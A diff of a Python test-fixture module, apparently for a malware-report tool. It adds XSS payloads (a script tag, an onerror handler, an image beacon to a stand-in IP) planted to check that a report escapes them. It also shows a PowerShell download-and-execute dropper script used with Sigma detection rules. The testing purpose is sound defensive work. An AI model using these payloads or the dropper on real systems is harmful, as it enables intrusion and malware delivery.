@@ -17,9 +17,20 @@ import zipfile
 from datetime import UTC, datetime
 from functools import cache
 
-__all__ = ["DATA_OWNER", "archive", "data_files", "data_mtime", "dropper", "payload", "tool"]
+__all__ = ["DATA_OWNER", "PLANTED", "archive", "data_files", "data_mtime", "dropper", "payload", "tool"]
 
 _ZIP_TIME = (2026, 3, 9, 16, 48, 0)
+
+#: Markup planted in attacker-controlled fields that look harmless (a script comment, an ssh
+#: option), so the report's tests can check it shows as text: a script that would retitle the
+#: page, an image error handler that would too, an image fetched from outside.
+PLANTED = (
+    "<script>document.title='pwned'</script>",
+    "<img src=x onerror=\"document.title='pwned'\">",
+    "<img src='http://192.0.2.1/beacon.png'>",
+)
+#: A PowerShell block comment (``<# ... #>``): PowerShell ignores it, a careless viewer runs it.
+_COMMENT = f"<# {PLANTED[0]} #>"
 
 #: The macro's encoded PowerShell (UTF-16LE base64, as -EncodedCommand expects).
 DOWNLOAD_SCRIPT = (
@@ -27,6 +38,7 @@ DOWNLOAD_SCRIPT = (
     '$p="$env:APPDATA\\MsUpdate\\msupdate.exe";'
     "New-Item -ItemType Directory -Force (Split-Path $p)|Out-Null;"
     "(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p"
+    f"{_COMMENT}"  # last: the encoded command still starts "JAB" ($), as Sigma's rules expect
 )
 
 
